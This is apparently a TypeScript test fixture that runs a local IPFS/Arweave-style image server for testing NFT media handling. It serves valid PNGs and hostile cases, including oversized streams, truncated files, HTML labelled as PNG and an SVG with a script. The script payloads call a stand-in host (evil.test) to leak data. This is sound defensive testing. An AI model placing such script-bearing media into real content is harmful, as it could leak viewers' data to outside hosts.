// An IPFS/Arweave-gateway-style image server on 127.0.0.1 for NFT media tests: good images and
// the hostile cases of issue 28. Paths under `/ipfs/<cid>/`:
//   <n>.png      a real 64×64 PNG, its colour from n
//   big.png      50 MB labelled image/png, streamed without Content-Length
//   script.svg   an SVG with a <script>, image/svg+xml
//   page.png     an HTML page labelled text/html
//   fake.png     an HTML page labelled image/png (the magic bytes disagree)
//   redirect.png 302 to an http: URL of the same server
//   dead.png     404
//   cut.png      a PNG head, then the connection is dropped
// and `/<43-char id>` (Arweave) serves a PNG. Metadata JSON for token URIs read on chain:
//   meta/721/<n>               {"name": "Uri Ape #n", "image": "ipfs://<cid>/<n>.png", …}, except
//   meta/721/901               not JSON, as application/json
//   meta/721/902               an HTML page
//   meta/721/903               300 KB of JSON (past main's 256 KB cap)
//   meta/721/904               404
//   meta/1155/<64 hex>.json    {"name": "Uri Item #<id>", …} (EIP-1155's {id} filled in)
// Every request is recorded with its headers.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { solidPng } from './pngImage';

export const TEST_CID = 'bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi';
export const TEST_AR_ID = 'bNbA3TEQVL60xlgCcqdz4ZPHFZ711cZ3hmkpGttDt_U';
export const HOSTILE_NAMES = [
  'big.png',
  'script.svg',
  'page.png',
  'fake.png',
  'redirect.png',
  'dead.png',
  'cut.png',
] as const;

const BIG_BYTES = 50 * 1024 * 1024;
const HTML = '<html><body><script>fetch("https://evil.test/?leak")</script></body></html>';

export interface ImageServer {
  url: string;
  /** `ipfs://` URI of a file of this server */
  ipfs(name: string): string;
  requests: { path: string; headers: http.IncomingHttpHeaders }[];
  /** bytes of big.png actually written before the client gave up */
  bigBytesSent(): number;
  close(): Promise<void>;
}

const json = (res: http.ServerResponse, body: unknown, type = 'application/json') =>
  res.writeHead(200, { 'content-type': type }).end(typeof body === 'string' ? body : JSON.stringify(body));

function metadata721(res: http.ServerResponse, n: number) {
  switch (n) {
    case 901:
      return json(res, '{"name": "Uri Ape #901", "image": ');
    case 902:
      return json(res, HTML, 'text/html');
    case 903:
      return json(res, { name: 'Uri Ape #903', description: 'x'.repeat(300 * 1024) });
    case 904:
      return res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    default:
      return json(res, {
        name: `Uri Ape #${n}`,
        description: `Read from token URI ${n}`,
        image: `ipfs://${TEST_CID}/${n}.png`,
        attributes: [{ trait_type: 'Source', value: 'tokenURI' }],
      });
  }
}

const colourOf = (n: number): [number, number, number] => [
  (n * 67) % 256,
  (n * 131 + 80) % 256,
  (n * 29 + 160) % 256,
];

export async function startImageServer(): Promise<ImageServer> {
  const requests: ImageServer['requests'] = [];
  let bigSent = 0;
  let base = '';
  const server = http.createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname;
    requests.push({ path, headers: req.headers });
    const png = (body: Buffer) => res.writeHead(200, { 'content-type': 'image/png' }).end(body);
    if (path === `/${TEST_AR_ID}`) return png(solidPng([200, 60, 60]));
    const m = new RegExp(`^/ipfs/${TEST_CID}/(.+)$`).exec(path);
    const name = m?.[1] ?? '';
    const n = /^(\d{1,6})\.png$/.exec(name);
    if (n) return png(solidPng(colourOf(Number(n[1]))));
    const meta = /^meta\/721\/(\d{1,6})$/.exec(name);
    if (meta) return metadata721(res, Number(meta[1]));
    const meta1155 = /^meta\/1155\/([0-9a-f]{64})\.json$/.exec(name);
    if (meta1155) {
      const id = BigInt(`0x${meta1155[1]}`);
      return json(res, { name: `Uri Item #${id}`, image: `ipfs://${TEST_CID}/${id}.png`, attributes: [] });
    }
    switch (name) {
      case 'big.png': {
        res.writeHead(200, { 'content-type': 'image/png' });
        const head = solidPng([0, 0, 0]);
        const block = Buffer.alloc(64 * 1024);
        bigSent = 0;
        const pump = () => {
          while (bigSent < BIG_BYTES) {
            const piece = bigSent === 0 ? head : block;
            bigSent += piece.length;
            if (!res.write(piece)) return void res.once('drain', pump);
          }
          res.end();
        };
        res.on('close', () => res.destroy());
        return pump();
      }
      case 'script.svg':
        return res
          .writeHead(200, { 'content-type': 'image/svg+xml' })
          .end(
            '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.test/?svg")</script></svg>',
          );
      case 'page.png':
        return res.writeHead(200, { 'content-type': 'text/html' }).end(HTML);
      case 'fake.png':
        return res.writeHead(200, { 'content-type': 'image/png' }).end(HTML);
      case 'redirect.png':
        return res
          .writeHead(302, { location: `${base.replace('127.0.0.1', 'localhost')}/ipfs/${TEST_CID}/1.png` })
          .end();
      case 'cut.png':
        res.writeHead(200, { 'content-type': 'image/png', 'content-length': '100000' });
        res.write(solidPng([1, 2, 3]).subarray(0, 20));
        return void setTimeout(() => res.destroy(), 20);
      default:
        return res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: base,
    ipfs: (name) => `ipfs://${TEST_CID}/${name}`,
    requests,
    bigBytesSent: () => bigSent,
    close: () =>
      new Promise<void>((r) => {
        server.closeAllConnections();
        server.close(() => r());
      }),
  };
}
